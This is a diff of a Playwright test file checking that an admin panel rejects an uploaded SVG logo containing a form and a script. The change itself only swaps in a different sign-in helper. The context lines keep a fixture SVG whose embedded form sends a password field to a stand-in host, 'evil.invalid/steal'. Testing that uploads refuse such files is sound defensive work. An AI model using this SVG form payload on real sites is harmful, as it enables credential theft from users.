@@ -15,9 +15,8 @@ const EVIL = 'http://evil.invalid';
 const FORM_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><foreignObject width="400" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="${EVIL}/steal" method="get"><input name="password" value="rahasia"/><button id="masuk" type="submit">Masuk</button></form></foreignObject><script>document.title = 'ran'</script></svg>`;
 
 test.describe('logos cannot act', () => {
-  test('the panel refuses the SVG with a form, saying why', async ({ page, loginAs }) => {
-    await loginAs(page);
-    await page.goto(routes.addApp);
+  test('the panel refuses the SVG with a form, saying why', async ({ page, openSignedIn }) => {
+    await openSignedIn(routes.addApp);
     await expect(page.getByRole('heading', { level: 1, name: 'Tambah Aplikasi' })).toBeVisible();
     await page
       .getByTestId('logo-file')
